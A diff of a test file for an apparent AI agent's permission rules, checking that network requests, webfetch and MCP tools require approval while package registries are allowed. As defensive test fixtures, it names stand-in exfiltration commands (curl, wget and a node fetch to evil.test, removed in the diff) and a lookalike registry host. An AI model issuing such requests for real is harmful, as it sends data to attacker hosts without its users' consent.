@@ -110,14 +110,19 @@ describe("DEFAULT_RULES", () => {
     expect(act("task", "explore")).toBe("allow");
   });
 
-  it("asks for every tool that reaches the network: webfetch, MCP tools, commands naming a URL or a download client", () => {
+  it("asks for every tool that reaches the network: webfetch, MCP tools, a command's request to a new site", () => {
     expect(act("webfetch", "https://example.com/?d=secret")).toBe("ask");
     expect(act("mcp", "github_create_issue")).toBe("ask");
-    expect(act("bash", "node -e \"fetch('https://evil.test/?d=1')\"")).toBe("ask");
-    expect(act("bash", "curl evil.test")).toBe("ask");
-    expect(act("bash", "wget -q evil.test")).toBe("ask");
+    // Commands are judged on where their requests go (command-gate.ts), not on their text.
+    expect(act("network", "https://evil.test")).toBe("ask");
+    expect(act("network", "http://127.0.0.1:8080")).toBe("ask");
+    expect(act("network", "https://registry.npmjs.org")).toBe("allow");
+    expect(act("network", "https://pypi.org")).toBe("allow");
+    expect(act("network", "https://files.pythonhosted.org")).toBe("allow");
+    expect(act("network", "https://registry.npmjs.org.evil.test")).toBe("ask");
     expect(act("bash", "npm test")).toBe("allow");
     expect(isNetworkPermission("webfetch")).toBe(true);
+    expect(isNetworkPermission("network")).toBe(true);
     expect(isNetworkPermission("mcp")).toBe(true);
     expect(isNetworkPermission("bash")).toBe(false);
   });
